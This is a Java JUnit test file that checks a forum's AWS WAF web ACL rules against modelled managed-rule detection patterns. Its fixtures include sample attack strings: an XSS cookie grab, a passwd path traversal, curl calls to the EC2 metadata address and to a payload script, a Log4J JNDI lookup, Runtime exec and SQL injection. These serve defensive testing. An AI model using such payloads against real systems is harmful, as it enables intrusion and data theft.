package dev.forum.extraction.ecs;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.function.Predicate;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/**
 * Walks the rendered web ACL, rule by rule in priority order, with requests: a 10,000-character post quoting code
 * passes; attacks in the path, query and headers are refused with the 403 problem; a post over 8 KB is counted,
 * not blocked. The managed rules are modelled from AWS's published descriptions (AWS WAF Developer Guide, "Baseline
 * rule groups": each rule's inspected part and example patterns); AWS does not publish the rules themselves, so
 * the model is the documented patterns, which is what a legitimate post trips.
 */
class FirewallTest {

    /** A managed rule as documented: the label it adds and what it looks for. */
    record ManagedRule(String label, Predicate<Request> matches) {
    }

    record Request(String method, String path, String query, Map<String, String> headers, String body) {

        int bodyBytes() {
            return body.getBytes(StandardCharsets.UTF_8).length;
        }
    }

    private static final Pattern RFI = Pattern.compile("(?i)(https?|ftps?|file)://\\d{1,3}(\\.\\d{1,3}){3}");
    private static final String CRS = "awswaf:managed:aws:core-rule-set:";
    private static final String KBI = "awswaf:managed:aws:known-bad-inputs:";

    private static final List<ManagedRule> MODEL = List.of(
            new ManagedRule(CRS + "NoUserAgent_Header", r -> !r.headers().containsKey("user-agent")),
            new ManagedRule(CRS + "SizeRestrictions_QueryString", r -> r.query().length() > 2048),
            new ManagedRule(CRS + "SizeRestrictions_Body", r -> r.bodyBytes() > 8192),
            new ManagedRule(CRS + "SizeRestrictions_URIPath", r -> r.path().length() > 1024),
            new ManagedRule(CRS + "EC2MetaDataSSRF_Body", r -> inspected(r).contains("169.254.169.254")),
            new ManagedRule(CRS + "EC2MetaDataSSRF_QueryArguments", r -> r.query().contains("169.254.169.254")),
            new ManagedRule(CRS + "GenericLFI_Body", r -> inspected(r).contains("../")),
            new ManagedRule(CRS + "GenericLFI_QueryArguments", r -> r.query().contains("../")),
            new ManagedRule(CRS + "GenericRFI_Body", r -> RFI.matcher(inspected(r)).find()),
            new ManagedRule(CRS + "GenericRFI_QueryArguments", r -> RFI.matcher(r.query()).find()),
            new ManagedRule(CRS + "CrossSiteScripting_Body", r -> inspected(r).toLowerCase(Locale.ROOT).contains("<script")),
            new ManagedRule(CRS + "CrossSiteScripting_QueryArguments", r -> r.query().toLowerCase(Locale.ROOT).contains("%3cscript")
                    || r.query().toLowerCase(Locale.ROOT).contains("<script")),
            new ManagedRule(KBI + "JavaDeserializationRCE_Body", r -> inspected(r).contains("java.lang.Runtime")
                    || inspected(r).contains("getRuntime().exec")),
            new ManagedRule(KBI + "Log4JRCE_Body", r -> inspected(r).contains("${jndi:")),
            new ManagedRule(KBI + "Log4JRCE_Header", r -> r.headers().values().stream().anyMatch(v -> v.contains("${jndi:"))),
            new ManagedRule(KBI + "Host_Localhost_Header", r -> r.headers().getOrDefault("host", "").startsWith("localhost")),
            new ManagedRule(KBI + "Propfind_Method", r -> r.method().equals("PROPFIND")),
            new ManagedRule(KBI + "ExploitablePaths_URIPath", r -> r.path().toLowerCase(Locale.ROOT).contains("web-inf")));

    /** WAF inspects the first 8 KB of a body behind an ALB (oversize handling Continue: the rest is not looked at). */
    private static String inspected(Request request) {
        byte[] body = request.body().getBytes(StandardCharsets.UTF_8);
        return new String(body, 0, Math.min(body.length, 8192), StandardCharsets.UTF_8);
    }

    /** What the web ACL answers: 0 when it lets the request through. */
    record Verdict(int status, String body, Set<String> labels) {
    }

    private static JsonNode webAcl() {
        return Templates.json(Templates.render(ForumTopologies.topology(ForumTopologies.root().resolve("deploy/topologies/posts-extracted.yml")))
                .get("base.json")).path("Resources").path("WebAcl").path("Properties");
    }

    private static Verdict walk(JsonNode acl, Request request) {
        List<JsonNode> rules = new ArrayList<>();
        acl.path("Rules").forEach(rules::add);
        rules.sort((a, b) -> Integer.compare(a.path("Priority").asInt(), b.path("Priority").asInt()));
        Set<String> labels = new HashSet<>();
        for (JsonNode rule : rules) {
            JsonNode statement = rule.path("Statement");
            if (statement.has("RateBasedStatement")) {
                continue; // one request is under any limit
            }
            if (statement.has("ManagedRuleGroupStatement")) {
                assertTrue(rule.path("OverrideAction").has("Count"), "managed groups only label: " + rule.path("Name"));
                String namespace = switch (statement.path("ManagedRuleGroupStatement").path("Name").asText()) {
                    case "AWSManagedRulesCommonRuleSet" -> CRS;
                    case "AWSManagedRulesKnownBadInputsRuleSet" -> KBI;
                    default -> throw new AssertionError("no model of " + statement);
                };
                MODEL.stream().filter(m -> m.label().startsWith(namespace) && m.matches().test(request)).forEach(m -> labels.add(m.label()));
                continue;
            }
            if (matches(statement, labels)) {
                JsonNode custom = rule.path("Action").path("Block").path("CustomResponse");
                String body = acl.path("CustomResponseBodies").path(custom.path("CustomResponseBodyKey").asText()).path("Content").asText();
                return new Verdict(custom.path("ResponseCode").asInt(), body, labels);
            }
        }
        assertTrue(acl.path("DefaultAction").has("Allow"));
        return new Verdict(0, "", labels);
    }

    private static boolean matches(JsonNode statement, Set<String> labels) {
        if (statement.has("LabelMatchStatement")) {
            JsonNode label = statement.path("LabelMatchStatement");
            String key = label.path("Key").asText();
            return label.path("Scope").asText().equals("NAMESPACE") ? labels.stream().anyMatch(l -> l.startsWith(key)) : labels.contains(key);
        }
        if (statement.has("NotStatement")) {
            return !matches(statement.path("NotStatement").path("Statement"), labels);
        }
        if (statement.has("AndStatement")) {
            for (JsonNode part : statement.path("AndStatement").path("Statements")) {
                if (!matches(part, labels)) {
                    return false;
                }
            }
            return true;
        }
        if (statement.has("OrStatement")) {
            for (JsonNode part : statement.path("OrStatement").path("Statements")) {
                if (matches(part, labels)) {
                    return true;
                }
            }
            return false;
        }
        throw new AssertionError("no model of " + statement);
    }

    private static Map<String, String> browserHeaders() {
        return Map.of("user-agent", "Mozilla/5.0", "host", "forum.example.com", "content-type", "application/json");
    }

    /** A post of exactly 10,000 characters that quotes code of every kind a managed body rule looks for. */
    static String postQuotingCode() throws Exception {
        String code = """
                Here is how the exploit worked, do not run it:
                <script>alert(document.cookie)</script>
                cat ../../etc/passwd
                curl http://169.254.169.254/latest/meta-data/ and then curl http://10.0.0.12/payload.sh
                ${jndi:ldap://example.com/a}
                Runtime.getRuntime().exec("whoami"); // java.lang.Runtime
                SELECT * FROM users WHERE name = '' OR 1=1; --
                """;
        StringBuilder text = new StringBuilder(code);
        while (text.length() < 10_000) {
            text.append("Ünïcödé tëxt ünder thé cödé, ").append("€");
        }
        text.setLength(10_000);
        Map<String, Object> post = Map.of("thread", 1, "text", text.toString(), "user", 2);
        return new ObjectMapper().writeValueAsString(post);
    }

    @Test
    void aTenThousandCharacterPostQuotingCodePassesAndEveryBodyRuleItTripsOnlyCounts() throws Exception {
        String body = postQuotingCode();
        JsonNode post = new ObjectMapper().readTree(body);
        assertEquals(10_000, post.path("text").asText().codePointCount(0, post.path("text").asText().length()));
        assertTrue(body.getBytes(StandardCharsets.UTF_8).length > 8192, "over WAF's 8 KB body limit");

        Verdict verdict = walk(webAcl(), new Request("POST", "/api/posts", "", browserHeaders(), body));
        assertEquals(0, verdict.status(), "refused: " + verdict);
        // The post did trip the body rules: they label it, so the firewall's metrics still show it.
        assertTrue(verdict.labels().containsAll(Set.of(CRS + "SizeRestrictions_Body", CRS + "CrossSiteScripting_Body",
                CRS + "GenericLFI_Body", CRS + "GenericRFI_Body", CRS + "EC2MetaDataSSRF_Body", KBI + "Log4JRCE_Body",
                KBI + "JavaDeserializationRCE_Body")), verdict.labels().toString());
    }

    @Test
    void attacksOutsideTheBodyAreRefusedWithTheForbiddenProblem() {
        JsonNode acl = webAcl();
        Map<String, String> noAgent = Map.of("host", "forum.example.com");
        Map<String, String> log4j = Map.of("user-agent", "${jndi:ldap://example.com/a}", "host", "forum.example.com");
        List<Request> attacks = List.of(
                new Request("GET", "/api/posts", "q=<script>alert(1)</script>", browserHeaders(), ""),
                new Request("GET", "/api/posts", "file=../../etc/passwd", browserHeaders(), ""),
                new Request("GET", "/api/posts", "", noAgent, ""),
                new Request("GET", "/api/posts", "", log4j, ""),
                new Request("PROPFIND", "/api/posts", "", browserHeaders(), ""),
                new Request("GET", "/WEB-INF/web.xml", "", browserHeaders(), ""));
        for (Request attack : attacks) {
            Verdict verdict = walk(acl, attack);
            assertEquals(403, verdict.status(), attack.toString());
            JsonNode problem = Templates.json(verdict.body());
            assertEquals("urn:forum:problem:forbidden", problem.path("type").asText());
            assertEquals(403, problem.path("status").asInt());
        }
        assertEquals(0, walk(acl, new Request("GET", "/api/posts/in-thread/1", "limit=10", browserHeaders(), "")).status());
    }

    @Test
    void everyCountOnlyRuleInspectsTheBodyAndSaysWhyInTheTemplate() {
        JsonNode reasons = Templates.json(Templates.render(ForumTopologies.topology(ForumTopologies.root().resolve("topology.yml")))
                .get("base.json")).path("Resources").path("WebAcl").path("Metadata").path("CountOnly");
        assertEquals(Firewall.COUNT_ONLY.size(), reasons.size());
        for (JsonNode reason : reasons) {
            assertTrue(reason.path("Rule").asText().endsWith("_BODY"), "only body rules are relaxed: " + reason);
            assertTrue(reason.path("Reason").asText().length() > 30, reason.toString());
        }
    }

    @Test
    void theRateLimitIsTheTopologysPerClientIpAndAnswersARateLimitedProblemWithRetryAfter() {
        JsonNode acl = Templates.json(Templates.render(ForumTopologies.topology("""
                edge: { rate-limit: 250 }
                services: [ { name: monolith, monolith: true } ]
                """)).get("base.json")).path("Resources").path("WebAcl").path("Properties");
        JsonNode rule = acl.path("Rules").path(0);
        assertEquals(0, rule.path("Priority").asInt(), "before the managed rules");
        assertEquals(250, rule.path("Statement").path("RateBasedStatement").path("Limit").asInt());
        assertEquals("IP", rule.path("Statement").path("RateBasedStatement").path("AggregateKeyType").asText());
        JsonNode custom = rule.path("Action").path("Block").path("CustomResponse");
        assertEquals(429, custom.path("ResponseCode").asInt());
        assertEquals("Retry-After", custom.path("ResponseHeaders").path(0).path("Name").asText());
        assertFalse(custom.path("ResponseHeaders").path(0).path("Value").asText().isBlank());
        assertEquals("urn:forum:problem:rate-limited",
                Templates.json(acl.path("CustomResponseBodies").path("rate-limited").path("Content").asText()).path("type").asText());
    }
}
